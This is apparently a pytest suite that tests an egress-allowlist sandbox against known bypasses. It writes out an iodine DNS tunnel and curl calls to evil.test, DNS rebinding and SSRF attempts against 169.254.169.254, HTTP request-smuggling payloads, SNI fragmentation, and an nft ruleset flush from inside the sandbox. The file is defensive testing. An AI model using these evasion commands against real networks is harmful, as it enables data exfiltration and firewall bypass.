# SPDX-License-Identifier: MIT
"""The gauntlet: ways around an egress allowlist that others fell for, each tried from inside a sealed
sandbox by real programs, as root and as an ordinary user. The packet log of the world is the judge:
nothing may have left but to what the policy allows. docs/EGRESS.md has the table."""

import json
import os
import subprocess
import sys

import pytest

from egress_lab import NAMESERVER, ZONE, lab, user  # noqa: F401 (fixtures)
from processes import Process, wait_until

pytestmark = [pytest.mark.skipif(os.geteuid() != 0, reason="left out: namespaces with veth need root")]

API = ("203.0.113.10", 443)
API6 = ("2001:db8:1::10", 443)
HTTP = ("203.0.113.11", 80)
DB = ("203.0.113.12", 5432)


@pytest.fixture(scope="module")
def policy(lab):
    return lab.policy("api.example.test", "web.example.test:80", "db.example.test:5432/tcp")


@pytest.fixture
def only(lab):
    """Whatever the test does, packets left only for these places."""
    mark = lab.mark()
    places = set()
    yield places.update  # takes (address, port) pairs
    astray = [p for p in lab.packets(mark) if (p["dst"], p["dport"]) not in places]
    assert not astray, astray[:5]


def hello(name, ech=False, pad=0):
    """A TLS 1.2 ClientHello record for `name`; with a dummy encrypted client hello; with padding."""
    def ext(kind, body):
        return kind.to_bytes(2, "big") + len(body).to_bytes(2, "big") + body
    server = name.encode()
    exts = ext(0, (len(server) + 3).to_bytes(2, "big") + b"\0" + len(server).to_bytes(2, "big") + server)
    exts += ext(10, b"\0\2\0\x17") + ext(11, b"\1\0") + ext(13, b"\0\4\4\3\4\1")
    if ech:
        exts += ext(0xfe0d, b"\0\0\1\0\1\7\0\x20" + bytes(32) + b"\0\x90" + bytes(144))
    if pad:
        exts += ext(21, bytes(pad))
    body = b"\3\3" + bytes(range(32)) + b"\0" + b"\0\4\xc0\x2b\xc0\x2f" + b"\1\0" + len(exts).to_bytes(2, "big") + exts
    return b"\1" + len(body).to_bytes(3, "big") + body


def record(piece):
    return b"\x16\3\1" + len(piece).to_bytes(2, "big") + piece


# Connects and sends pieces; prints what came first: "" is an orderly end, null a reset.
SEND = r"""
import json, socket, sys, time
host, port, pieces, pause = sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3]), float(sys.argv[4])
try:
    s = socket.create_connection((host, port), 5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.settimeout(8)
    for p in pieces:
        s.sendall(bytes.fromhex(p))
        if pause:
            time.sleep(pause)
    print(json.dumps(s.recv(4000).decode("latin-1")))
except OSError as e:
    print(json.dumps(None))
"""


def send(lab, policy, user, to, pieces, pause=0.0):
    return lab.python(policy, SEND, to[0], str(to[1]), json.dumps([p.hex() for p in pieces]), str(pause), user=user)


# -- names

def test_a_tunnel_through_the_name_server(lab, policy, user, only):
    mark = lab.mark()
    script = "; ".join("dig +tries=1 +time=2 %s %s.evil.test" % (kind, "a" * 60)
                       for kind in ("A", "AAAA", "TXT", "NULL", "HTTPS", "SVCB", "MX", "ANY", "SRV", "CNAME", "PTR"))
    done = lab.run(policy, "sh", "-c", script, user=user)
    assert done.stdout.count("NXDOMAIN") == 11, done.stdout
    done = lab.run(policy, "sh", "-c", "timeout 4 iodine -f -r %s t.evil.test; true" % NAMESERVER, user=user)
    assert done.returncode == 0
    assert lab.questions(mark) == []


def test_dns_over_tcp_and_to_any_server(lab, policy, user, only):
    mark = lab.mark()
    done = lab.run(policy, "sh", "-c", "dig +tcp +short api.example.test; dig +tcp evil.test; "
                   "dig +short @198.51.100.53 api.example.test; dig @198.51.100.53 evil.test; "
                   "dig @2001:db8:9::53 evil.test; dig @127.0.0.53 +short web.example.test; dig @127.0.0.53 evil.test", user=user)
    assert done.stdout.splitlines()[0] == "203.0.113.10"
    assert done.stdout.count("NXDOMAIN") == 4, done.stdout
    assert "203.0.113.11" in done.stdout
    assert {q["name"] for q in lab.questions(mark)} <= {"api.example.test", "web.example.test"}


def test_records_that_carry_more_than_addresses(lab, policy, user, only):
    mark = lab.mark()
    done = lab.run(policy, "sh", "-c", "for t in HTTPS SVCB TXT NULL MX; do dig $t api.example.test; done", user=user)
    assert done.stdout.count("status: NOERROR") == 5 and done.stdout.count("ANSWER: 0") == 5, done.stdout
    assert lab.questions(mark) == []


def test_names_under_a_wildcard_are_bounded(lab, user, only):
    lab.zone({**ZONE, **{"n%d.example.test" % i: {"A": ["203.0.113.10"]} for i in range(40)}})
    policy = lab.policy("*.example.test", limits={"names": 10, "labels": 2})
    mark = lab.mark()
    lab.run(policy, "sh", "-c", "for i in $(seq 0 39); do dig +short n$i.example.test; done; "
            "dig a.b.c.d.example.test", user=user)
    asked = {q["name"] for q in lab.questions(mark)}
    assert 1 <= len(asked) <= 10, asked
    assert "a.b.c.d.example.test" not in asked
    lab.zone(ZONE)


def test_answers_that_lead_inside(lab, user, only):
    policy = lab.policy("*.example.test", "*.example.test:80")
    done = lab.run(policy, "sh", "-c", "for n in inside metadata loop; do dig $n.example.test; done", user=user)
    assert done.stdout.count("ANSWER: 0") == 3, done.stdout
    for host in ("inside.example.test", "metadata.example.test", "loop.example.test"):
        done = lab.run(policy, "curl", "-sS", "-m", "5", "--resolve", host + ":80:203.0.113.11", "http://%s/" % host, user=user)
        assert not done.stdout.startswith("{"), done.stdout


def test_a_name_server_that_rebinds(lab, user, only):
    only([HTTP])
    lab.zone({**ZONE, "flip.example.test": {"script": [{"A": ["203.0.113.11"], "ttl": 0}, {"A": ["169.254.169.254"], "ttl": 0},
                                                       {"A": ["10.20.30.40"], "ttl": 0}]}})
    policy = lab.policy("flip.example.test:80")
    done = lab.run(policy, "sh", "-c", "for i in 1 2 3 4; do curl -sS -m 5 http://flip.example.test/; echo; sleep 0.3; done; "
                   "curl -sS -m 5 -H 'Host: flip.example.test' http://169.254.169.254/; "
                   "curl -sS -m 5 -H 'Host: flip.example.test' http://10.20.30.40/", user=user)
    for line in done.stdout.splitlines():
        if line.startswith("{"):
            assert json.loads(line)["to"] == "203.0.113.11", line
    lab.zone(ZONE)


def test_addresses_in_every_notation(lab, policy, user, only):
    hosts = ["127.1", "0177.0.0.1", "0x7f000001", "2130706433", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]",
             "169.254.169.254", "[::ffff:10.20.30.40]", "0xa9fea9fe", "[fd00:ec2::254]", "0", "[::]"]
    done = lab.run(policy, "sh", "-c", "; ".join("curl -sS -g -m 4 'http://%s/'" % h for h in hosts) + "; true", user=user)
    assert '"to"' not in done.stdout, done.stdout


def test_the_first_connection_does_not_race_its_rule(lab, user, only):
    names = {"r%d.example.test" % i: {"A": ["203.0.113.%d" % (100 + i)]} for i in range(60)}
    only([("203.0.113.%d" % (100 + i), 5432) for i in range(60)])
    lab.zone({**ZONE, **names})
    policy = lab.policy("*.example.test:5432")
    script = r"""
import json, socket
print(json.dumps([socket.create_connection(("r%d.example.test" % i, 5432), 5).recv(40).decode() for i in range(60)]))
"""
    found = lab.python(policy, script, user=user)
    assert found == ["hello from 203.0.113.%d 5432\n" % (100 + i) for i in range(60)]
    lab.zone(ZONE)


def test_a_pin_opens_its_port_only(lab, policy, user, only):
    only([DB])
    script = r"""
import json, socket
out = [socket.create_connection(("db.example.test", 5432), 5).recv(40).decode()]
for port in (22, 25, 853, 9999):
    try:
        out.append(socket.create_connection(("203.0.113.12", port), 3).recv(40).decode())
    except OSError as e:
        out.append(None)
print(json.dumps(out))
"""
    assert lab.python(policy, script, user=user) == ["hello from 203.0.113.12 5432\n"] + [None] * 4


# -- TLS and HTTP

def test_an_allowed_server_name_to_an_attackers_address(lab, policy, user, only):
    only([API, API6])
    done = lab.run(policy, "curl", "-sS", "-m", "5", "--cacert", lab.certs.ca, "--resolve", "api.example.test:443:203.0.113.66",
                   "https://api.example.test/x", user=user)
    assert json.loads(done.stdout)["to"] in (API[0], API6[0]), done.stderr


def test_another_name_on_a_shared_address(lab, policy, user, only):
    done = lab.run(policy, "curl", "-sS", "-m", "5", "-k", "--resolve", "shared.example.test:443:203.0.113.10",
                   "https://shared.example.test/", user=user)
    assert done.returncode != 0 and done.stdout == ""


def test_no_server_name_at_all(lab, policy, user, only):
    done = lab.run(policy, "curl", "-sS", "-m", "5", "-k", "https://203.0.113.10/", user=user)
    assert done.returncode != 0 and done.stdout == ""
    assert not send(lab, policy, user, API, [b"SSH-2.0-x\r\n"])
    assert not send(lab, policy, user, API, [b"GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n"])


@pytest.mark.parametrize("how", ["one byte at a time", "two records", "many records", "larger than a packet", "dummy ECH"])
def test_a_client_hello_however_it_comes(lab, policy, user, only, how):
    only([API, API6])
    for name, is_allowed in (("api.example.test", True), ("evil.test", False)):
        message = hello(name, ech=how == "dummy ECH", pad=6000 if how == "larger than a packet" else 0)
        cut = [record(message)]
        if how == "one byte at a time":
            cut = [bytes([b]) for b in record(message)]
        elif how == "two records":
            cut = [record(message[:7]), record(message[7:])]
        elif how == "many records":
            cut = [record(message[i:i + 3]) for i in range(0, len(message), 3)]
        got = send(lab, policy, user, API, cut, 0.002 if len(cut) > 1 else 0)
        if is_allowed:
            assert got and got[0] == "\x16", got
        else:
            assert not got, got


def test_a_client_hello_that_never_ends(lab, policy, user, only):
    assert not send(lab, policy, user, API, [record(hello("api.example.test", pad=15000) + bytes(100))[:16000], bytes(2000)] * 2)


def test_a_second_request_with_another_host(lab, policy, user, only):
    only([HTTP])
    mark = lab.mark()
    first = b"GET /1 HTTP/1.1\r\nHost: web.example.test\r\n\r\n"
    second = b"GET /2 HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    assert '"path": "/1"' in send(lab, policy, user, HTTP, [first, second], 0.3)
    send(lab, policy, user, HTTP, [first + second])
    paths = [c["line"] for c in lab.connections(mark)]
    assert paths and all("/1" in p for p in paths), paths


@pytest.mark.parametrize("host, status", [
    ("evil.test", "403"), ("WEB.EXAMPLE.TEST", "200"), ("web.example.test.", "200"), ("web.example.test:80", "200"),
    ("[web.example.test]", "400"), ("web.example.test\0.evil.test", "400"), ("evil.test\0.example.test", "400"),
    ("web.example.test@evil.test", "400"), ("web.example.test,evil.test", "400"), ("127.1", "400"),
    ("a" * 64 + ".example.test", "400"), ("w\u00e9b.example.test", "400"), ("", "40")])
def test_host_names_in_disguise(lab, policy, user, only, host, status):
    only([HTTP])
    got = send(lab, policy, user, HTTP, [b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n"])
    assert got and got.startswith("HTTP/1.1 " + status), got


def test_requests_that_hide_another(lab, policy, user, only):
    only([HTTP])
    mark = lab.mark()
    hidden = b"GET /hidden HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    for request in (
            b"POST / HTTP/1.1\r\nHost: web.example.test\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
            b"POST / HTTP/1.1\r\nHost: web.example.test\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nabcde" + hidden,
            b"GET http://evil.test/ HTTP/1.1\r\nHost: web.example.test\r\n\r\n",
            b"CONNECT evil.test:443 HTTP/1.1\r\nHost: web.example.test\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost: web.example.test\r\nHost: evil.test\r\n\r\n",
            b"GET / HTTP/1.1\r\n Host: evil.test\r\nHost: web.example.test\r\n\r\n",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"):
        got = send(lab, policy, user, HTTP, [request])
        assert not got or got.startswith("HTTP/1.1 4"), (request, got)
    assert not [c for c in lab.connections(mark) if c["line"] and ("hidden" in c["line"] or c["host"] == "evil.test")]


def test_a_redirect_inward(lab, policy, user, only):
    done = lab.run(policy, "curl", "-sS", "-m", "5", "-L", "http://169.254.169.254/latest/meta-data/", user=user)
    assert '"to"' not in done.stdout


def test_proxy_variables_change_nothing(lab, policy, user, only):
    done = lab.run(policy, "sh", "-c", "curl -sS -m 4 --noproxy '*' -k https://evil.test/; "
                   "http_proxy=http://203.0.113.66:8080 curl -sS -m 4 http://web.example.test/; true", user=user)
    assert '"to"' not in done.stdout


# -- other protocols

RAW = r"""
import ctypes, json, os, socket, struct
out = {}
def attempt(name, f):
    try:
        f()
        out[name] = "done"
    except OSError as e:
        out[name] = e.errno
def send(family, kind, proto, to, payload=b"x" * 64):
    with socket.socket(family, kind, proto) as s:
        s.settimeout(2)
        s.sendto(payload, to)
def connect(family, kind, proto, to):
    with socket.socket(family, kind, proto) as s:
        s.settimeout(2)
        s.connect(to)
attempt("quic4", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, ("203.0.113.10", 443), b"\xc0" * 1200))
attempt("quic6", lambda: send(socket.AF_INET6, socket.SOCK_DGRAM, 0, ("2001:db8:1::10", 443), b"\xc0" * 1200))
attempt("ntp", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, ("203.0.113.10", 123)))
attempt("mdns", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, ("224.0.0.251", 5353)))
attempt("broadcast", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, ("255.255.255.255", 9999)))
attempt("fragments", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, ("203.0.113.10", 9999), b"x" * 60000))
attempt("ping", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("203.0.113.10", 0), b"\x08\0\xf7\xff\0\0\0\0"))
attempt("ping6", lambda: send(socket.AF_INET6, socket.SOCK_DGRAM, 58, ("2001:db8:1::10", 0), b"\x80\0\0\0\0\0\0\0"))
for proto in (1, 4, 41, 47, 50, 132, 136, 255):
    attempt("raw%d" % proto, lambda: send(socket.AF_INET, socket.SOCK_RAW, proto, ("203.0.113.10", 0)))
attempt("sctp", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 132, ("203.0.113.10", 443)))
attempt("dccp", lambda: connect(socket.AF_INET, 6, 33, ("203.0.113.10", 443)))
attempt("mptcp", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 262, ("203.0.113.66", 9999)))
attempt("udplite", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 136, ("203.0.113.10", 9999)))
for family in range(0, 46):
    if family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
        continue
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind, 0).close()
            out.setdefault("families", []).append([family, kind])
        except OSError:
            pass
for proto in range(0, 22):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto).close()
        out.setdefault("netlink", []).append(proto)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
def call(name, number, *args):
    r = libc.syscall(number, *args)
    out[name] = "done" if r >= 0 else ctypes.get_errno()
call("io_uring", 425, 8, ctypes.create_string_buffer(120))
call("unshare_user", 272, 0x10000000)
call("unshare_net", 272, 0x40000000)
call("bpf", 321, 0, ctypes.create_string_buffer(120), 120)
call("ptrace_init", 101, 16, 1, 0, 0)
call("mount", 165, b"none", b"/mnt", b"tmpfs", 0, None)
call("process_vm", 310, 1, None, 0, None, 0, 0)
call("userfaultfd", 323, 0)
call("keyctl", 250, 0, -3, 1, 0, 0)
for ns in ("net", "mnt", "user", "pid"):
    try:
        fd = os.open("/proc/1/ns/" + ns, os.O_RDONLY)
        call("setns_" + ns, 308, fd, 0)
    except OSError as e:
        out["setns_" + ns] = e.errno
print(json.dumps(out))
"""


def test_every_other_protocol_and_family(lab, policy, user, only):
    out = lab.python(policy, RAW, user=user)
    for name in ("quic4", "quic6", "ntp", "mdns", "broadcast", "ping", "ping6", "sctp", "mptcp", "udplite"):
        assert out[name] != "done", (name, out)
    assert out.get("families", []) in ([], [[16, 3], [16, 2]], [[16, 2], [16, 3]]), out  # AF_NETLINK, NETLINK_ROUTE only
    assert out.get("netlink") in (None, [0]), out
    for name in ("io_uring", "unshare_user", "unshare_net", "bpf", "ptrace_init", "mount", "userfaultfd", "keyctl",
                 "setns_net", "setns_mnt", "setns_user", "setns_pid"):
        assert out[name] != "done", (name, out)


def test_the_rules_cannot_be_touched_from_inside(lab, policy, user, only):
    done = lab.run(policy, "sh", "-c", "/usr/sbin/nft flush ruleset; /usr/sbin/ip route flush table local; "
                   "/usr/sbin/ip link add v0 type veth; /usr/sbin/ip route add default dev lo; "
                   "curl -sS -m 4 -k https://evil.test/; curl -sS -m 4 http://203.0.113.66/ ; true", user=user)
    assert done.stderr.count("ermitted") + done.stderr.count("denied") >= 3, done.stderr
    assert '"to"' not in done.stdout


def test_outside_processes_are_out_of_reach(lab, policy, user, only):
    outside = Process(lab.host_argv(user) + ["sleep", "60"])
    try:
        wait_until(lambda: os.readlink("/proc/%d/exe" % outside.pid).endswith("sleep"), 5, "sleep runs")
        done = lab.run(policy, "sh", "-c", "nsenter -t %d -n true && echo IN; nsenter -t 1 -a true && echo IN; ls /proc/%d; "
                       "kill -0 %d && echo SEEN; cat /proc/1/root/run/* 2>/dev/null; true" % ((outside.pid,) * 3), user=user)
        assert "IN" not in done.stdout and "SEEN" not in done.stdout, done.stdout
    finally:
        outside.end()


def test_sockets_of_the_host(lab, policy, user, only):
    """Each unix socket below the host's /run, an abstract one, and the resolver's."""
    abstract = "lab-%d" % os.getpid()
    outside = Process(lab.host_argv() + [sys.executable, "-c", "import socket; s = socket.socket(socket.AF_UNIX); "
                                         "s.bind('\\0%s'); s.listen(); print('up', flush=True); s.accept(); print('REACHED', flush=True)" % abstract])
    place = lab.environment(None)["XDG_RUNTIME_DIR"]
    try:
        outside.wait_line(lambda line: line == "up")
        found = subprocess.run(["find", "/run", "/var/run/", "/tmp", "-type", "s"], capture_output=True, text=True).stdout.split()
        script = r"""
import json, socket, sys
reached = []
for path in json.loads(sys.argv[1]):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path.replace("@", "\0", 1) if path[0] == "@" else path)
        reached.append(path)
    except OSError:
        pass
try:
    socket.getaddrinfo("evil.test", 80)
    reached.append("nss")
except OSError:
    pass
print(json.dumps(reached))
"""
        assert lab.python(policy, script, json.dumps(["@" + abstract, *found]), user=user) == []
    finally:
        outside.end()
    assert place


def test_an_empty_list_allows_nothing(lab, user, only):
    done = lab.run(lab.policy(), "sh", "-c", "curl -sS -m 4 -k https://api.example.test/; curl -sS -m 4 http://203.0.113.11/; true", user=user)
    assert '"to"' not in done.stdout


def test_a_policy_that_the_sandbox_writes(lab, user, only):
    path = lab.policy("api.example.test")
    os.chmod(path, 0o666)
    text = json.dumps({"version": 1, "default": "allow", "dns": {"upstream": [NAMESERVER]}})
    done = lab.run(path, "sh", "-c", "echo '%s' > %s; curl -sS -m 4 -k https://evil.test/; true" % (text, path), user=user)
    assert '"to"' not in done.stdout


def test_another_tools_flush_is_noticed_and_undone(lab, policy, only):
    path = lab.place / "flush.jsonl"
    p = lab.start(policy, "sh", "-c", "echo up; while read x; do curl -s -m 2 http://203.0.113.66:9999/; echo tried; done",
                  options=("--name", "flushed", "--audit", str(path)), stdin=-1)
    p.wait_line(lambda line: line == "up")
    inner = inside_pid(p)
    for _ in range(5):
        subprocess.run(["nsenter", "-t", str(inner), "-n", "nft", "flush", "ruleset"], check=True)
        at = p.mark()
        p.child.stdin.write("\n")
        p.child.stdin.flush()
        p.wait_line(lambda line: line == "tried", start=at)
    wait_until(lambda: "rules.restored" in path.read_text(), 5, "the record of it")
    wait_until(lambda: json.loads(lab.agentd("status", "--name", "flushed", "--json").stdout)["sandboxes"][0]["enforced"], 5, "enforced again")
    listed = subprocess.run(["nsenter", "-t", str(inner), "-n", "nft", "list", "ruleset"], capture_output=True, text=True).stdout
    assert "agentd_egress" in listed


def inside_pid(p):
    """A process inside the sandbox that p (nsenter, then agentd) keeps: the deepest shell."""
    def children(pid):
        with open("/proc/%d/task/%d/children" % (pid, pid)) as f:
            return [int(c) for c in f.read().split()]

    def walk(pid):
        for c in children(pid):
            yield from walk(c)
            yield c
    shells = [c for c in walk(p.pid) if os.readlink("/proc/%d/exe" % c).endswith(("sh", "dash"))]
    assert shells
    return shells[0]


@pytest.mark.parametrize("what", ["DoH", "another Host"])
def test_what_a_name_check_cannot_see(lab, policy, user, only, what):
    """Said in docs/EGRESS.md and by explain: inside TLS to an allowed name anything may be asked."""
    only([API, API6])
    argv = ["curl", "-sS", "-m", "5", "--cacert", lab.certs.ca]
    argv += ["-H", "Host: evil.test"] if what == "another Host" else []
    done = lab.run(policy, *argv, "https://api.example.test/dns-query", user=user)
    assert done.stdout, done.stderr
    assert json.loads(done.stdout)["host"] == ("evil.test" if what == "another Host" else "api.example.test")
    assert any("name check" in line or "TLS" in line for line in lab.agentd("explain", "--policy", policy, "https://api.example.test/").stdout.splitlines())
